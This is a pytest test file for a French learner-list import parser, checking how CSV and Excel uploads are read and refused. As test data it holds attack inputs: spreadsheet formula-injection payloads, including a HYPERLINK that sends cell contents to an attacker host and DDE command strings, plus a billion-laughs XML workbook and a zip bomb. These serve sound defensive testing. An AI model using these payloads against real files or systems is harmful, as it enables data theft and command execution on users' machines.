"""Learner population files: real CSV and Excel files read, every refusal proven."""

import csv
import io
import random
import zipfile

import pytest
from django.utils import translation
from openpyxl import Workbook

from saveit.core import uploads
from saveit.learning import importing
from saveit.learning.importing import LearnerRow, ParsedFile, RowError, parse_population_file
from saveit.testing import sample_files as samples
from saveit.testing.population_files import population_csv, population_xlsx

HEADER = "Nom;Prénom;E-mail;Matricule;Site;Poste;Manager"
EMPTY = "This file is empty."
DAMAGED = "This file cannot be opened: it is damaged or incomplete."
WRONG_TYPE = (
    "This type of file is not accepted: send the list of learners as a CSV or Excel (XLSX) file."
)
BOMB = "This compressed file would expand to a suspicious size: it is refused."
FORMULA = "This value looks like a spreadsheet formula: it is refused."


@pytest.fixture(autouse=True)
def english():
    """Messages are checked against their msgids, whatever the French catalogue holds."""
    with translation.override("en"):
        yield


def csv_file(*lines: str, encoding: str = "utf-8") -> bytes:
    return "\r\n".join(lines).encode(encoding)


def parse_csv(*lines: str, **options) -> ParsedFile:
    return parse_population_file(csv_file(*lines), "apprenants.csv", **options)


def file_errors(parsed: ParsedFile) -> list[str]:
    assert parsed.rows == []
    assert all(error.line == 0 for error in parsed.errors)
    return [error.message for error in parsed.errors]


def excel_workbook(
    rows: list[str],
    shared: list[str] | None = None,
    *,
    sheet_id: str = "rId1",
    sheet: str | None = None,
) -> bytes:
    """A workbook laid out as Excel writes it: shared strings, a dimension, a rels indirection.

    `rows` are <row> elements of the first sheet (or `sheet` its whole XML); a second sheet
    holds decoys.
    """
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts = {
        "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?><Types/>',
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<workbook xmlns="{main}" xmlns:r="{rel}"><sheets>'
            f'<sheet name="Apprenants" sheetId="1" r:id="{sheet_id}"/>'
            f'<sheet name="Brouillon" sheetId="2" r:id="rId9"/>'
            f"</sheets></workbook>"
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId9" Type="{kinds}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="{sheet_id}" Type="{kinds}/worksheet" '
            f'Target="/xl/worksheets/sheet2.xml"/>'
            + (
                f'<Relationship Id="rId7" Type="{kinds}/sharedStrings" Target="sharedStrings.xml"/>'
                if shared is not None
                else ""
            )
            + "</Relationships>"
        ),
        "xl/worksheets/sheet1.xml": (
            f'<worksheet xmlns="{main}"><sheetData><row r="1"><c r="A1" t="inlineStr">'
            f"<is><t>Decoy</t></is></c></row></sheetData></worksheet>"
        ),
        "xl/worksheets/sheet2.xml": sheet
        or (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<worksheet xmlns="{main}"><dimension ref="A1:G9"/><sheetData>'
            + "".join(rows)
            + "</sheetData></worksheet>"
        ),
    }
    if shared is not None:
        parts["xl/sharedStrings.xml"] = (
            f'<sst xmlns="{main}" count="{len(shared)}" uniqueCount="{len(shared)}">'
            + "".join(shared)
            + "</sst>"
        )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, xml in parts.items():
            archive.writestr(name, xml)
    return buffer.getvalue()


def shared_row(number: int, indexes: list[int | None]) -> str:
    cells = "".join(
        f'<c r="{"ABCDEFG"[column]}{number}" t="s"><v>{index}</v></c>'
        for column, index in enumerate(indexes)
        if index is not None
    )
    return f'<row r="{number}">{cells}</row>'


def openpyxl_workbook(rows: list[list[object]]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Apprenants"
    for row in rows:
        sheet.append(row)
    workbook.create_sheet("Notes").append(["Nom", "Prénom", "E-mail"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# --- accepted files ---------------------------------------------------------------------------


def test_a_semicolon_csv_as_french_excel_writes_it_is_read_with_its_accents():
    parsed = parse_population_file(
        "\ufeff"
        f"{HEADER}\r\n"
        "Lefèvre;Hélène;helene.lefevre@client.example;M000001;Saint-Étienne;Cariste;Zoé Noël\r\n"
        "".encode(),
        "apprenants.csv",
    )
    assert parsed.errors == []
    assert parsed.rows == [
        LearnerRow(
            line=2,
            last_name="Lefèvre",
            first_name="Hélène",
            email="helene.lefevre@client.example",
            employee_id="M000001",
            site="Saint-Étienne",
            job="Cariste",
            manager="Zoé Noël",
        )
    ]
    assert parsed.columns == [
        "last_name",
        "first_name",
        "email",
        "employee_id",
        "site",
        "job",
        "manager",
    ]
    assert parsed.total_lines == 1


@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-8", "cp1252", "utf-16"])
def test_each_delimiter_and_encoding_of_real_exports_is_read(delimiter, encoding):
    parsed = parse_population_file(
        population_csv(30, delimiter=delimiter, encoding=encoding), "apprenants.csv"
    )
    assert parsed.errors == []
    assert len(parsed.rows) == parsed.total_lines == 30
    assert {row.site for row in parsed.rows} & {"Saint-Étienne", "Clermont-Ferrand"}
    assert any("é" in row.first_name or "ë" in row.first_name for row in parsed.rows)


def test_a_windows_1252_file_keeps_its_accents():
    content = csv_file(
        "Nom;Prénom;Courriel", "Bérard;Gaëlle;gaelle@client.example", encoding="cp1252"
    )
    assert b"\xe9" in content  # é as Windows-1252 writes it, not UTF-8
    parsed = parse_population_file(content, "export.csv")
    assert (parsed.rows[0].last_name, parsed.rows[0].first_name) == ("Bérard", "Gaëlle")


def test_quoted_fields_may_hold_the_delimiter_quotes_and_line_breaks():
    parsed = parse_csv(
        "Nom;Prénom;E-mail;Poste",
        'Martin;Léa;lea@client.example;"Agent de maîtrise; équipe de nuit"',
        'Durand;Théo;theo@client.example;"Chef d\'équipe\nligne ""A"""',
        "Simon;Zoé;zoe@client.example;Cariste",
    )
    assert parsed.errors == []
    assert [row.job for row in parsed.rows] == [
        "Agent de maîtrise; équipe de nuit",
        'Chef d\'équipe ligne "A"',  # inner line breaks folded into a space
        "Cariste",
    ]
    assert [row.line for row in parsed.rows] == [2, 3, 4]  # rows as a spreadsheet shows them


@pytest.mark.parametrize("ending", ["\r\n", "\n", "\r"])
def test_windows_unix_and_classic_mac_line_endings_are_read(ending):
    content = (
        ending.join([HEADER, "Roux;Inès;ines@client.example;;;;", '"Noël";"Joël";joel@c.fr'])
        + ending
    )
    parsed = parse_population_file(content.encode("cp1252"), "export.csv")
    assert parsed.errors == []
    assert [(row.line, row.last_name) for row in parsed.rows] == [(2, "Roux"), (3, "Noël")]


def test_a_comma_file_whose_values_hold_semicolons_is_still_read_with_commas():
    parsed = parse_csv(
        "Nom,Prénom,E-mail,Poste",
        'Martin,Léa,lea@client.example,"Opératrice; ligne 2"',
    )
    assert parsed.errors == []
    assert parsed.rows[0].job == "Opératrice; ligne 2"


def test_values_are_trimmed_spaces_folded_and_e_mails_lower_cased():
    parsed = parse_csv(
        HEADER,
        "  Le\u00a0Gall ;  Jean  Pierre ; Jean.Pierre.LEGALL@Client.Example ; M12 ;Lyon;;",
    )
    row = parsed.rows[0]
    assert (row.last_name, row.first_name, row.email, row.employee_id) == (
        "Le Gall",
        "Jean Pierre",
        "jean.pierre.legall@client.example",
        "M12",
    )
    assert (row.job, row.manager) == ("", "")


def test_an_excel_workbook_is_read_from_its_first_sheet():
    parsed = parse_population_file(population_xlsx(40), "apprenants.xlsx")
    assert parsed.errors == []
    assert len(parsed.rows) == parsed.total_lines == 40
    assert parsed.rows[0].line == 2
    assert parsed.rows[0].email.endswith(".00001@client.example")
    assert parsed.rows[0].employee_id == "M000001"


def test_a_workbook_saved_by_excel_with_shared_strings_and_rich_text_is_read():
    shared = [
        "<si><t>Nom</t></si>",
        "<si><t>Prénom</t></si>",
        "<si><t>Adresse e-mail</t></si>",
        "<si><t>Matricule</t></si>",
        # rich text: two runs make one value; the phonetic reading is not part of it
        '<si><r><t>Lef</t></r><r><rPr><b/></rPr><t xml:space="preserve">èvre</t></r>'
        "<rPh sb='0' eb='1'><t>ルフェーヴル</t></rPh></si>",
        "<si><t>Hélène</t></si>",
        "<si><t>Helene.Lefevre@Client.Example</t></si>",
    ]
    content = excel_workbook(
        [
            shared_row(1, [0, 1, 2, 3]),
            shared_row(2, [4, 5, 6])[: -len("</row>")] + '<c r="D2"><v>1234</v></c></row>',
        ],
        shared,
        sheet_id="rId3",
    )
    parsed = parse_population_file(content, "export.xlsx")
    assert parsed.errors == []
    assert parsed.rows == [
        LearnerRow(2, "Lefèvre", "Hélène", "helene.lefevre@client.example", "1234", "", "", "")
    ]


def test_a_sheet_written_with_namespace_prefixes_indentation_and_formulas_is_read():
    sheet = """<?xml version="1.0" encoding="UTF-8"?>
<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">
  <x:sheetData>
    <x:row r="1">
      <x:c r="A1" t="inlineStr"><x:is><x:t>Nom</x:t></x:is></x:c>
      <x:c r="B1" t="inlineStr"><x:is><x:t>Prénom</x:t></x:is></x:c>
      <x:c r="C1" t="inlineStr"><x:is><x:t>E-mail</x:t></x:is></x:c>
      <x:c r="E1" t="inlineStr"><x:is><x:t>Poste</x:t></x:is></x:c>
    </x:row>
    <x:row r="2">
      <x:c r="A2" t="inlineStr">
        <x:is>
          <x:r><x:t>Le </x:t></x:r>
          <x:r><x:rPr><x:b/></x:rPr><x:t>Gall</x:t></x:r>
        </x:is>
      </x:c>
      <x:c r="B2" t="inlineStr"><x:is><x:t>Maëlys</x:t></x:is></x:c>
      <x:c r="C2" t="str">
        <x:f>LOWER(B2&amp;"@client.example")</x:f>
        <x:v>maelys@client.example</x:v>
      </x:c>
      <x:c r="E2" t="inlineStr"><x:is><x:t>Chef d'équipe</x:t></x:is></x:c>
    </x:row>
  </x:sheetData>
</x:worksheet>"""
    parsed = parse_population_file(excel_workbook([], sheet=sheet), "export.xlsx")
    assert parsed.errors == []
    assert parsed.rows == [
        LearnerRow(2, "Le Gall", "Maëlys", "maelys@client.example", "", "", "Chef d'équipe", "")
    ]


def test_row_numbers_follow_the_sheet_when_it_skips_empty_rows():
    shared = ["<si><t>Nom</t></si>", "<si><t>Prénom</t></si>", "<si><t>E-mail</t></si>"]
    shared += [
        "<si><t>Noël</t></si>",
        "<si><t>Joël</t></si>",
        "<si><t>joel@client.example</t></si>",
    ]
    content = excel_workbook([shared_row(1, [0, 1, 2]), shared_row(7, [3, 4, 5])], shared)
    parsed = parse_population_file(content, "export.xlsx")
    assert [row.line for row in parsed.rows] == [7]


@pytest.mark.parametrize(
    ("typed", "kept"),
    [(1234, "1234"), (1234.0, "1234"), (12.5, "12.5"), ("00123", "00123")],
)
def test_an_employee_id_typed_as_a_number_in_excel_is_kept_as_its_digits(typed, kept):
    content = openpyxl_workbook(
        [["Nom", "Prénom", "E-mail", "Matricule"], ["Roux", "Inès", "ines@client.example", typed]]
    )
    parsed = parse_population_file(content, "apprenants.xlsx")
    assert parsed.rows[0].employee_id == kept


def test_the_type_is_decided_on_the_content_not_on_the_name():
    assert parse_population_file(population_xlsx(3), "apprenants.csv").total_lines == 3
    assert parse_population_file(population_csv(3), "apprenants.xlsx").total_lines == 3


# --- the header line --------------------------------------------------------------------------


def test_french_column_names_are_recognised_whatever_their_case_accents_and_spacing():
    parsed = parse_csv(
        "NOM;prenom;Adresse E-Mail;Id_Salarié;ÉTABLISSEMENT;Fonction;Responsable  hiérarchique",
        "Petit;Noémie;noemie@client.example;A7;Annecy;Cariste;Hervé Roux",
    )
    assert parsed.errors == []
    assert parsed.rows[0] == LearnerRow(
        2, "Petit", "Noémie", "noemie@client.example", "A7", "Annecy", "Cariste", "Hervé Roux"
    )


def test_english_column_names_are_recognised():
    parsed = parse_csv(
        "Surname,Given name,Email,Employee ID,Location,Job title,Manager",
        "Petit,Noémie,noemie@client.example,A7,Annecy,Cariste,Hervé Roux",
    )
    assert parsed.errors == []
    assert parsed.rows[0].manager == "Hervé Roux"


@pytest.mark.parametrize(
    ("name", "key"),
    [
        ("Nom", "last_name"),
        ("Last name", "last_name"),
        ("surname", "last_name"),
        ("Prénom", "first_name"),
        ("First_Name", "first_name"),
        ("given-name", "first_name"),
        ("E-mail", "email"),
        ("email", "email"),
        ("Courriel", "email"),
        ("Adresse e-mail", "email"),
        ("MAIL", "email"),
        ("Matricule", "employee_id"),
        ("Employee id", "employee_id"),
        ("Identifiant", "employee_id"),
        ("ID salarié", "employee_id"),
        ("Site", "site"),
        ("Établissement", "site"),
        ("Location", "site"),
        ("Poste", "job"),
        ("Fonction", "job"),
        ("Emploi", "job"),
        ("Job", "job"),
        ("Job title", "job"),
        ("Manager", "manager"),
        ("Responsable", "manager"),
        ("N+1", "manager"),
        ("Responsable hiérarchique", "manager"),
    ],
)
def test_each_alias_names_its_column(name, key):
    assert importing._column_key(name) == key


def test_unknown_columns_are_ignored_and_not_listed():
    parsed = parse_csv(
        "Date d'entrée;Nom;Service;Prénom;E-mail",
        "2021-03-01;Garcia;Logistique;Amélie;amelie@client.example",
    )
    assert parsed.errors == []
    assert parsed.columns == ["last_name", "first_name", "email"]
    assert parsed.rows[0] == LearnerRow(
        2, "Garcia", "Amélie", "amelie@client.example", "", "", "", ""
    )


def test_a_title_above_the_column_names_is_passed_over():
    parsed = parse_csv(
        "Extraction SIRH du 03/03/2025",
        "",
        HEADER,
        "Bonnet;Anaïs;anais@client.example;;;;",
    )
    assert parsed.errors == []
    assert parsed.rows[0].line == 4


def test_a_missing_required_column_is_refused_by_its_name():
    parsed = parse_csv("Nom;Prénom;Matricule", "Bonnet;Anaïs;M1")
    assert parsed.errors == [RowError(0, "email", "Required column missing: e-mail address.")]
    assert parsed.rows == []


def test_every_missing_required_column_is_named():
    parsed = parse_csv("Courriel;Site", "anais@client.example;Lyon")
    assert [error.column for error in parsed.errors] == ["last_name", "first_name"]
    assert file_errors(parsed) == [
        "Required column missing: last name.",
        "Required column missing: first name.",
    ]


def test_a_file_without_any_known_column_name_is_refused():
    parsed = parse_csv("Bonnet;Anaïs;anais@client.example", "Roux;Inès;ines@client.example")
    assert file_errors(parsed) == [
        "No column name was recognised: the first line must name the columns, for example: "
        "last name, first name, e-mail address."
    ]


def test_a_column_given_twice_is_refused():
    parsed = parse_csv("Nom;Prénom;E-mail;Courriel", "Roux;Inès;a@client.example;b@client.example")
    assert file_errors(parsed) == ["The column Courriel appears more than once."]


def test_a_file_with_only_its_column_names_is_refused():
    parsed = parse_csv(HEADER, ";;;;;;", "")
    assert file_errors(parsed) == ["This file lists no learner: it only holds the column names."]


# --- refused files ----------------------------------------------------------------------------


def docx_document() -> bytes:
    return samples.sample_docx()


def executable() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(200)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        pytest.param(samples.sample_pdf(), WRONG_TYPE, id="pdf"),
        pytest.param(docx_document(), WRONG_TYPE, id="docx"),
        pytest.param(samples.sample_odt(), WRONG_TYPE, id="odt"),
        pytest.param(random.Random(7).randbytes(4096), WRONG_TYPE, id="random bytes"),
        pytest.param(b"", EMPTY, id="empty"),
        pytest.param(b"  \r\n\r\n", EMPTY, id="blank"),
        pytest.param(
            executable(),
            "This file is a program or a script, not a document: it is refused.",
            id="exe renamed csv",
        ),
        pytest.param(
            b"\x7fELF\x02\x01\x01" + bytes(100),
            "This file is a program or a script, not a document: it is refused.",
            id="linux program",
        ),
        pytest.param(b"\x1f\x8b\x08\x00" + bytes(50), WRONG_TYPE, id="gzip"),
        pytest.param(
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
            "This file uses an old Word or Excel format (.doc, .xls): open it, save it as .docx "
            "or .xlsx, then send it again.",
            id="old xls",
        ),
        pytest.param(
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
            + bytes(600)
            + "EncryptedPackage".encode("utf-16-le")
            + bytes(60),
            "This Excel file is protected by a password: remove the protection, save it, then "
            "send it again.",
            id="password-protected xlsx",
        ),
        pytest.param(population_xlsx(5)[:-300], DAMAGED, id="truncated xlsx"),
    ],
)
def test_a_file_that_is_not_a_list_of_learners_is_refused_as_a_whole(content, message):
    parsed = parse_population_file(content, "apprenants.csv")
    assert parsed.errors == [RowError(0, None, message)]
    assert (parsed.rows, parsed.columns, parsed.total_lines) == ([], [], 0)


def test_a_workbook_with_broken_xml_is_refused_as_damaged():
    content = excel_workbook(['<row r="1"><c r="A1" t="s"><v>0</v></row>'], ["<si><t>Nom</t></si>"])
    assert file_errors(parse_population_file(content, "x.xlsx")) == [DAMAGED]


def test_a_workbook_pointing_at_a_missing_shared_string_is_refused_as_damaged():
    content = excel_workbook([shared_row(1, [0, 1, 2]), shared_row(2, [0, 1, 9])], [
        "<si><t>Nom</t></si>",
        "<si><t>Prénom</t></si>",
        "<si><t>E-mail</t></si>",
    ])  # fmt: skip
    assert file_errors(parse_population_file(content, "x.xlsx")) == [DAMAGED]


def test_a_workbook_declaring_entities_is_refused_before_any_expansion():
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    )
    content = excel_workbook([], ["<si><t>&lol2;</t></si>"])
    with zipfile.ZipFile(io.BytesIO(content)) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    parts["xl/sharedStrings.xml"] = laughs.encode() + parts["xl/sharedStrings.xml"]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    assert file_errors(parse_population_file(buffer.getvalue(), "x.xlsx")) == [DAMAGED]


def test_a_zip_bomb_is_refused_before_being_inflated():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (20 * 1024 * 1024))
    assert len(buffer.getvalue()) < 100_000
    assert file_errors(parse_population_file(buffer.getvalue(), "x.xlsx")) == [BOMB]


def test_a_workbook_larger_than_allowed_once_inflated_is_refused(monkeypatch):
    monkeypatch.setattr(uploads, "MAX_ZIP_INFLATED_BYTES", 2000)
    assert file_errors(parse_population_file(population_xlsx(50), "x.xlsx")) == [BOMB]


def test_more_learners_than_allowed_are_refused_without_any_row():
    parsed = parse_population_file(population_csv(11), "x.csv", max_rows=10)
    assert file_errors(parsed) == [
        "This file lists more than 10 learners: split it into several files."
    ]


def test_exactly_the_allowed_number_of_learners_is_read():
    assert len(parse_population_file(population_csv(10), "x.csv", max_rows=10).rows) == 10


def test_blank_lines_do_not_count_towards_the_limit():
    content = csv_file(HEADER, "", ";;;;;;", " ; ; ", "Roux;Inès;ines@client.example;;;;")
    assert len(parse_population_file(content, "x.csv", max_rows=1).rows) == 1


def test_an_excel_workbook_with_too_many_learners_is_refused():
    parsed = parse_population_file(population_xlsx(11), "x.xlsx", max_rows=10)
    assert len(file_errors(parsed)) == 1


def test_an_empty_sheet_is_refused_as_empty():
    assert file_errors(parse_population_file(excel_workbook([]), "x.xlsx")) == [EMPTY]


# --- rows -------------------------------------------------------------------------------------


def test_blank_lines_are_skipped_and_later_lines_keep_their_numbers():
    parsed = parse_csv(
        HEADER,
        "",
        "Roux;Inès;ines@client.example;;;;",
        ";;;;;;",
        "   ;  ;\t;;;;",
        "Noël;Joël;joel@client.example;;;;",
    )
    assert [row.line for row in parsed.rows] == [3, 6]
    assert parsed.total_lines == 2
    assert parsed.errors == []


@pytest.mark.parametrize(
    ("line", "column"),
    [
        (";Inès;ines@client.example;;;;", "last_name"),
        ("Roux;;ines@client.example;;;;", "first_name"),
        ("Roux;Inès;;;;;", "email"),
    ],
)
def test_a_row_without_a_required_value_is_reported_and_left_out(line, column):
    parsed = parse_csv(HEADER, line, "Noël;Joël;joel@client.example;;;;")
    assert parsed.errors == [RowError(2, column, "This value is required.")]
    assert [row.line for row in parsed.rows] == [3]
    assert parsed.total_lines == 2


def test_a_row_with_values_only_in_unknown_columns_is_not_blank():
    parsed = parse_csv("Nom;Prénom;E-mail;Commentaire", ";;;arrivée en mai")
    assert [error.column for error in parsed.errors] == ["last_name", "first_name", "email"]


@pytest.mark.parametrize(
    "email",
    [
        "ines.roux",
        "ines@",
        "@client.example",
        "ines roux@client.example",
        "ines@client",
        "ines@@client.example",
        "ines@client..example",
        "ines@-client.example",
        "ines.@client.example",
        "ines@client.example,joel@client.example",
    ],
)
def test_an_invalid_e_mail_address_is_reported(email):
    parsed = parse_csv("Nom,Prénom,E-mail", f'Roux,Inès,"{email}"')
    assert parsed.errors == [RowError(2, "email", "Not a valid e-mail address.")]
    assert parsed.rows == []


@pytest.mark.parametrize(
    "email",
    [
        "ines.roux+formation@client.example",
        "o'brien@client.example",
        "ines@sous.domaine.client.example",
        "ines@société.fr",  # an internationalised domain, as Django accepts it
        "ines@xn--socit-esab.fr",
        "ines@localhost",
        "ines@[192.168.0.1]",
    ],
)
def test_an_unusual_but_valid_e_mail_address_is_accepted_as_django_does(email):
    parsed = parse_csv("Nom;Prénom;E-mail", f"Roux;Inès;{email}")
    assert parsed.errors == []
    assert parsed.rows[0].email == email


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        '=HYPERLINK("http://attacker.example/?x="&A1,"Cliquez ici")',
        "+SUM(A1:A9)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1,2)",
        "=cmd|' /C calc'!A0",
        "+A1",
        "- 1 + 1",
        "  =1+1",
    ],
)
@pytest.mark.parametrize("column", ["last_name", "job", "manager"])
def test_a_value_that_looks_like_a_spreadsheet_formula_is_refused(value, column):
    cells = {"last_name": "Roux", "job": "Cariste", "manager": ""} | {column: value}
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";").writerows(
        [
            ["Nom", "Prénom", "E-mail", "Poste", "Manager"],
            [cells["last_name"], "Inès", "ines@client.example", cells["job"], cells["manager"]],
        ]
    )
    parsed = parse_population_file(buffer.getvalue().encode(), "x.csv")
    assert parsed.errors == [RowError(2, column, FORMULA)]
    assert parsed.rows == []


def test_an_e_mail_address_that_is_also_a_formula_is_refused_as_a_formula():
    parsed = parse_csv("Nom;Prénom;E-mail", "Roux;Inès;=1+1@client.example")
    assert parsed.errors == [RowError(2, "email", FORMULA)]


@pytest.mark.parametrize("value", ["-", "- néant -", "@jean.dupont", "+ de 10 ans", "-Jean"])
def test_a_value_that_merely_starts_with_a_sign_is_kept(value):
    parsed = parse_csv("Nom;Prénom;E-mail;Manager", f"Roux;Inès;ines@client.example;{value}")
    assert parsed.errors == []
    assert parsed.rows[0].manager == value


@pytest.mark.parametrize(("column", "limit"), list(importing.MAX_LENGTHS.items()))
def test_a_value_longer_than_its_column_allows_is_refused(column, limit):
    position = importing.FIELDS.index(column)
    fitting = ["Roux", "Inès", "ines@client.example", "M1", "Lyon", "Cariste", "Zoé"]
    too_long = list(fitting)
    if column == "email":
        fitting[position] = "a" * (limit - len("@client.example")) + "@client.example"
        too_long[position] = "a" + fitting[position]
    else:
        fitting[position] = "é" * limit
        too_long[position] = "é" * (limit + 1)
    assert parse_csv(HEADER, ";".join(fitting)).errors == []
    parsed = parse_csv(HEADER, ";".join(too_long))
    assert parsed.errors == [RowError(2, column, f"Too long: {limit} characters at most.")]


def test_a_duplicate_e_mail_address_is_reported_on_the_later_line_naming_the_first():
    parsed = parse_csv(
        HEADER,
        "Roux;Inès;ines@client.example;M1;;;",
        "Noël;Joël;joel@client.example;M2;;;",
        "Roux;Inès;INES@Client.Example;M3;;;",
    )
    assert parsed.errors == [RowError(4, "email", "This e-mail address already appears on line 2.")]
    assert [row.line for row in parsed.rows] == [2, 3]


def test_a_duplicate_employee_id_is_reported_on_the_later_line_naming_the_first():
    parsed = parse_csv(
        HEADER,
        "Roux;Inès;ines@client.example;M1;;;",
        "Noël;Joël;joel@client.example;M1;;;",
        "Petit;Zoé;zoe@client.example;;;;",
        "Simon;Léa;lea@client.example;;;;",
    )
    assert parsed.errors == [
        RowError(3, "employee_id", "This employee id already appears on line 2.")
    ]
    assert len(parsed.rows) == 3  # an empty employee id is no duplicate


def test_a_row_refused_for_another_reason_still_claims_its_e_mail_address():
    parsed = parse_csv(
        HEADER,
        ";Inès;ines@client.example;;;;",
        "Roux;Inès;ines@client.example;;;;",
    )
    assert parsed.errors == [
        RowError(2, "last_name", "This value is required."),
        RowError(3, "email", "This e-mail address already appears on line 2."),
    ]


def test_every_problem_of_a_row_is_reported():
    parsed = parse_csv(HEADER, ";=1+1;pas-une-adresse;" + "9" * 65 + ";;;")
    assert parsed.errors == [
        RowError(2, "last_name", "This value is required."),
        RowError(2, "first_name", FORMULA),
        RowError(2, "email", "Not a valid e-mail address."),
        RowError(2, "employee_id", "Too long: 64 characters at most."),
    ]


def test_every_planted_mistake_is_found_on_its_line():
    planted = {
        3: "bad_email",
        4: "missing_email",
        5: "missing_last_name",
        6: "missing_first_name",
        7: "formula",
        8: "too_long",
        9: "duplicate_email",
        10: "duplicate_employee_id",
    }
    for content in (population_csv(12, errors=planted), population_xlsx(12, errors=planted)):
        parsed = parse_population_file(content, "apprenants")
        assert [(error.line, error.column) for error in parsed.errors] == [
            (4, "email"),
            (5, "email"),
            (6, "last_name"),
            (7, "first_name"),
            (8, "job"),
            (9, "site"),
            (10, "email"),
            (11, "employee_id"),
        ]
        assert parsed.errors[-2].message == "This e-mail address already appears on line 2."
        assert [row.line for row in parsed.rows] == [2, 3, 12, 13]
        assert parsed.total_lines == 12


def test_errors_beyond_the_limit_are_counted_not_listed():
    lines = [HEADER] + [f"Roux;Inès;adresse-{n};;;;" for n in range(8)]
    parsed = parse_csv(*lines, max_errors=5)
    assert [error.line for error in parsed.errors] == [2, 3, 4, 5, 6]
    assert parsed.unlisted_errors == 3
    assert parsed.total_lines == 8


def test_a_file_without_mistakes_has_no_unlisted_errors():
    assert parse_population_file(population_csv(3), "x.csv").unlisted_errors == 0


def test_messages_are_shown_in_french_by_default():
    with translation.override("fr"):
        parsed = parse_population_file(b"", "apprenants.csv")
    assert parsed.errors[0].message == "Ce fichier est vide."
